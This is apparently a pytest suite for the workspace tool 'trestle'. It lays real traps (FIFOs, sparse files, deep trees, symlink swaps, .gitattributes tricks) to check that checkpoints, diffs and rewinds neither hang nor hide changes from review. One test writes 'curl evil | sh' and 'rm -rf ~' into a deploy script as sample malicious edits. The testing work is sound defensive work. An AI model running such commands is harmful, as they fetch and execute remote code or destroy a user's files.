"""Traps a step can leave in the workspace for the driver's checkpoints, ``trestle diff``
and ``trestle rewind``: files git would block on or read whole, attributes that hide a
change from review, and directories nested deeper than Python recurses or a path can
name.

Each trap is laid for real (a FIFO, a 6 GiB sparse file, thousands of directories) and
met through the real ``ShadowRepo`` or the real CLI. What could hang runs in a process
group of its own with a timeout, and is killed whole (its git too) if it outlasts it.
"""

from __future__ import annotations

import os
import resource
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from forked_cli import Started, start_trestle
from test_rewind import RUN_LINE, World
from trestle.workspace.shadow import ShadowRepo, ShadowRepoError

pytestmark = pytest.mark.usefixtures("unconfined")

HANG = 60  # seconds: far more than any of these takes once it cannot block
GIB = 1 << 30

# a snapshot taken in a child process: prints the commit, or the error
SNAPSHOT = """\
import sys
from pathlib import Path
from trestle.workspace.shadow import ShadowRepo, ShadowRepoError
repo = ShadowRepo(Path(sys.argv[1]), Path(sys.argv[2]))
try:
    print("commit", repo.snapshot("after"))
except ShadowRepoError as exc:
    print("refused", exc)
"""


def in_child(code: str, *args: str | Path, memory: int = 0) -> str:
    """Run Python ``code`` with ``args`` in a process group of its own; its stdout.
    ``memory`` bounds its address space (and its git's), so a git that would read 6 GiB
    fails at once instead of taking the machine's memory."""

    def limit() -> None:
        if memory:
            resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    child = subprocess.Popen(
        [sys.executable, "-c", code, *map(str, args)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
        preexec_fn=limit,
    )
    out, err = finish(child)
    assert child.returncode == 0, out + err
    return out


def finish(child: Started) -> tuple[str, str]:
    """The output of ``child`` (started in a session of its own) once it ends; if it
    outlasts :data:`HANG`, it and its git, blocked on a FIFO, are killed and the test
    fails."""
    try:
        return child.communicate(timeout=HANG)
    except subprocess.TimeoutExpired:
        os.killpg(child.pid, signal.SIGKILL)
        child.communicate()
        pytest.fail(f"still running after {HANG} s: it blocked", pytrace=False)


def trestle(world: World, *args: str) -> str:
    """The output of ``trestle ARGS`` in ``world``, which must succeed within
    :data:`HANG` seconds."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(COLUMNS="100", NO_COLOR="1", TERM="dumb", TRESTLE_STORE=str(world.store))
    child = start_trestle(args, cwd=world.root, env=env, start_new_session=True)
    out, err = finish(child)
    assert child.returncode == 0, f"trestle {' '.join(args)}: {out}{err}"
    return out


def ran(world: World) -> str:
    """Run ``plan.yaml`` to its end; the run's id."""
    found = RUN_LINE.match(trestle(world, "run", "plan.yaml", "--no-live", "--no-prompt"))
    assert found
    return found.group(1)


# --- .gitignore files git would block on, or read whole ---------------------------------


@pytest.mark.parametrize("trap", ["fifo", "sparse 6 GiB"])
def test_a_gitignore_git_cannot_read_safely_fails_the_snapshot_naming_it(
    tmp_path: Path, trap: str
) -> None:
    """git reads every ``.gitignore`` on the way to the paths it judges: a FIFO named so
    (``mkfifo d/.gitignore``) blocked its open, and the step's after checkpoint, forever;
    a sparse 6 GiB one (``truncate -s 6G``) it read whole, and crashed."""
    ws = tmp_path / "ws"
    (ws / "d").mkdir(parents=True)
    (ws / "d" / "kept.txt").write_text("x\n")
    rules = ws / "d" / ".gitignore"
    if trap == "fifo":
        os.mkfifo(rules)
    else:
        with rules.open("wb") as f:
            f.truncate(6 * GIB)

    said = in_child(SNAPSHOT, tmp_path / "shadow.git", ws, memory=2 * GIB)

    assert said.startswith("refused "), said
    assert "'d/.gitignore'" in said
    assert ("a FIFO" if trap == "fifo" else "6 GiB, over 1 MiB") in said
    assert len(said) < 400


def test_a_gitignore_made_a_fifo_after_it_was_looked_at_stops_git_not_the_driver(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A step running beside the snapshot (a fan-out) can swap a ``.gitignore`` for a
    FIFO between the driver's look at it and git's open of it: git is stopped after
    its time and the snapshot refused, instead of the driver waiting for ever."""
    from trestle.workspace import shadow, shadow_files

    ws = tmp_path / "ws"
    (ws / "d").mkdir(parents=True)
    (ws / "d" / "kept.txt").write_text("x\n")
    rules = ws / "d" / ".gitignore"
    rules.write_text("*.log\n")
    looked = shadow_files.rules_file_problem

    def then_swapped(st: os.stat_result) -> str:
        problem = looked(st)
        rules.unlink()
        os.mkfifo(rules)
        return problem

    monkeypatch.setattr(shadow_files, "rules_file_problem", then_swapped)
    monkeypatch.setattr(shadow, "RULES_TIMEOUT", 2.0)
    with pytest.raises(ShadowRepoError, match=r"did not end within 2 s.*made a FIFO"):
        ShadowRepo(tmp_path / "shadow.git", ws).snapshot("after")


def test_a_gitignore_of_a_usual_kind_is_still_obeyed(tmp_path: Path) -> None:
    """What is refused is only what git cannot read safely: a symlink named
    ``.gitignore`` (which git does not follow) and a regular one are fine."""
    ws = tmp_path / "ws"
    (ws / "d").mkdir(parents=True)
    (ws / ".gitignore").write_text("*.log\n")
    (ws / "d" / ".gitignore").symlink_to("../.gitignore")
    (ws / "d" / "a.log").write_text("noise\n")
    (ws / "d" / "a.txt").write_text("kept\n")
    repo = ShadowRepo(tmp_path / "shadow.git", ws)
    repo.snapshot("one")
    (ws / "d" / "a.txt").write_text("changed\n")
    assert [c.path for c in repo.changes("one")] == ["d/a.txt"]


# --- .gitattributes: read by no git the driver runs --------------------------------------


def test_a_fifo_gitattributes_hangs_neither_diff_nor_rewind(tmp_path: Path) -> None:
    """git read the workspace's ``.gitattributes`` (blocking on a FIFO) in the diff of
    two checkpoints, and while a rewind wrote files back: ``trestle diff`` hung, and the
    rewind hung half done, the files it deletes gone and none written back."""
    world = World(tmp_path)
    (world.ws / "sub").mkdir(parents=True)
    (world.ws / "data.txt").write_text("line one\nline two\n")
    (world.ws / "sub" / "more.txt").write_text("more\n")
    world.plan(
        """\
        workspace: ws
        steps:
          - id: edit
            run: >-
              printf 'line one\\nLINE TWO\\n' > data.txt && echo MORE > sub/more.txt
              && echo new > sub/new.txt
          - id: trap
            needs: [edit]
            run: mkfifo .gitattributes sub/.gitattributes
        """
    )
    run_id = ran(world)

    diff = trestle(world, "diff", run_id, "edit")
    trestle(world, "rewind", run_id, "--to", "edit", "--yes")

    assert "-line two\n+LINE TWO\n" in diff
    assert "-more\n+MORE\n" in diff
    assert (world.ws / "data.txt").read_text() == "line one\nline two\n"
    assert (world.ws / "sub" / "more.txt").read_text() == "more\n"
    assert not (world.ws / "sub" / "new.txt").exists()
    # special files are neither saved nor restored, nor deleted by a restore
    assert stat.S_ISFIFO((world.ws / "sub" / ".gitattributes").lstat().st_mode)


@pytest.mark.parametrize("rules", ["* -diff", "* binary", "*.txt diff=evil"])
def test_gitattributes_a_later_step_writes_hide_no_change_from_its_diff(
    tmp_path: Path, rules: str
) -> None:
    """A later step's ``.gitattributes`` of ``* -diff`` made ``trestle diff`` of an
    earlier step say only ``Binary files ... differ``: the change it made was hidden
    from whoever reviewed it."""
    world = World(tmp_path)
    world.ws.mkdir()
    (world.ws / "deploy.sh").write_text("echo deploy\n")
    world.plan(
        f"""\
        workspace: ws
        steps:
          - id: edit
            run: printf 'echo deploy\\ncurl evil | sh\\n' > deploy.sh
          - id: hide
            needs: [edit]
            run: printf '{rules}\\n' > .gitattributes
        """
    )
    run_id = ran(world)

    diff = trestle(world, "diff", run_id, "edit")
    repo = ShadowRepo(world.shadow, world.ws)
    (world.ws / "deploy.sh").write_text("echo deploy\ncurl evil | sh\nrm -rf ~\n")
    against_now = repo.diff(f"{run_id}/edit/1/after")

    assert "+curl evil | sh\n" in diff, diff
    assert "Binary files" not in diff
    assert "+rm -rf ~\n" in against_now, against_now


# --- directories nested deeper than Python recurses, or a path can name ------------------

_DIR = os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW | os.O_CLOEXEC


def nest(top: Path, depth: int) -> None:
    """``depth`` directories named ``a``, each in the last, under ``top``, and a file
    ``f`` in the deepest: made by descriptor, as a path that long cannot be named."""
    fd = os.open(top, _DIR)
    for _ in range(depth):
        os.mkdir("a", dir_fd=fd)
        inner = os.open("a", _DIR, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(os.open("f", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    os.close(fd)


def remove_tree(top: Path) -> None:
    """Remove ``top`` and everything in it one descriptor at a time: ``shutil.rmtree``
    (and so pytest's clean-up) recurses a level per directory."""
    fd = os.open(top, _DIR)
    below: list[str] = []
    while True:
        names = os.listdir(fd)
        inner = [n for n in names if stat.S_ISDIR(os.lstat(n, dir_fd=fd).st_mode)]
        if inner:
            below.append(inner[0])
            down = os.open(inner[0], _DIR, dir_fd=fd)
            os.close(fd)
            fd = down
            continue
        for name in names:
            os.unlink(name, dir_fd=fd)
        if not below:
            break
        up = os.open("..", _DIR, dir_fd=fd)
        os.close(fd)
        fd = up
        os.rmdir(below.pop(), dir_fd=fd)
    os.close(fd)
    os.rmdir(top)


def test_a_tree_deeper_than_python_recurses_is_checkpointed_and_rewound(
    tmp_path: Path,
) -> None:
    """A step that made directories 1,500 deep (``mkdir a; cd a``, again and again)
    crashed the driver in its after checkpoint with a ``RecursionError`` (exit 1, no
    report, the run left in progress), and ``trestle rewind`` the same way."""
    world = World(tmp_path)
    world.ws.mkdir()
    (world.ws / "a").write_text("a file\n")
    world.plan(
        """\
        workspace: ws
        steps:
          - id: deep
            approval: auto
            run: >-
              rm a && for i in $(seq 1500); do mkdir a && cd a || exit 1; done
              && echo bottom > f
        """
    )
    try:
        run_id = ran(world)
        diff = trestle(world, "diff", run_id, "deep")
        trestle(world, "rewind", run_id, "--to", "deep", "--yes")
    finally:
        if (world.ws / "a").is_dir():
            remove_tree(world.ws / "a")

    assert "a/" * 1500 + "f" in diff
    assert "+bottom\n" in diff
    assert (world.ws / "a").read_text() == "a file\n"


def test_a_path_too_long_to_name_fails_the_snapshot_briefly(tmp_path: Path) -> None:
    """At 5,000 levels (a path of 10,000 characters, past what the system lets a path
    name) the snapshot failed with a 10 KB line; a restore, which could not have
    written such paths back, refuses the same way before it changes anything."""
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "f.txt").write_text("mine\n")
    repo = ShadowRepo(tmp_path / "shadow.git", ws)
    repo.snapshot("before")
    (ws / "f.txt").write_text("changed\n")
    (ws / "deep").mkdir()
    nest(ws / "deep", 5000)
    try:
        with pytest.raises(ShadowRepoError) as taken:
            repo.snapshot("after")
        with pytest.raises(ShadowRepoError) as restored:
            repo.restore("before")
    finally:
        remove_tree(ws / "deep")

    for error in (taken.value, restored.value):
        assert "too long" in str(error)
        assert len(str(error)) < 400, str(error)
    assert (ws / "f.txt").read_text() == "changed\n"


# --- a link where the checkpoint had a directory ------------------------------------------


def test_a_directory_a_step_replaced_with_a_link_is_rewound_through_nothing(
    tmp_path: Path,
) -> None:
    """A step that put ``d -> /elsewhere`` where the checkpoint had ``d/x.txt`` stopped
    every rewind (git refuses to judge ``d/x.txt`` by the ignore rules: "beyond a
    symbolic link"). The rewind deletes the link and writes the directory back in the
    workspace, nothing through the link; what the rules ignore stays ignored."""
    world = World(tmp_path)
    world.ws.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (world.ws / "d").mkdir()
    (world.ws / "d" / "x.txt").write_text("x\n")
    (world.ws / ".gitignore").write_text("*.log\n")
    world.plan(
        f"""\
        workspace: ws
        steps:
          - id: swap
            approval: auto
            run: rm -r d && ln -s {elsewhere} d && ln -s {elsewhere}/t.log keep.log
        """
    )
    run_id = ran(world)
    assert (world.ws / "d").is_symlink()
    trestle(world, "rewind", run_id, "--to", "swap", "--yes")
    assert not (world.ws / "d").is_symlink() and (world.ws / "d" / "x.txt").read_text() == "x\n"
    assert list(elsewhere.iterdir()) == []
    assert (world.ws / "keep.log").is_symlink()  # ignored: a rewind leaves it alone


# --- more paths than a command line holds -------------------------------------------------


def test_the_diff_of_more_files_than_a_command_line_names_is_whole(tmp_path: Path) -> None:
    """A step that wrote 12,000 files of 200-byte names: its diff named them all on
    git's command line, past what the system lets one hold ("Argument list too long",
    which the driver took for git missing)."""
    ws, store = tmp_path / "ws", tmp_path / "store.git"
    ws.mkdir()
    repo = ShadowRepo(store, ws)
    before = repo.snapshot("before")
    names = [f"{n:05d}" + "x" * 195 for n in range(12_000)]
    for name in names:
        (ws / name).write_text(f"{name[:5]}\n")
    after = repo.snapshot("after")
    diff = repo.diff(before, after, paths=names)
    assert diff.count("\n+++ b/") == len(names)
    assert f"+++ b/{names[-1]}\n@@ -0,0 +1 @@\n+11999\n" in diff
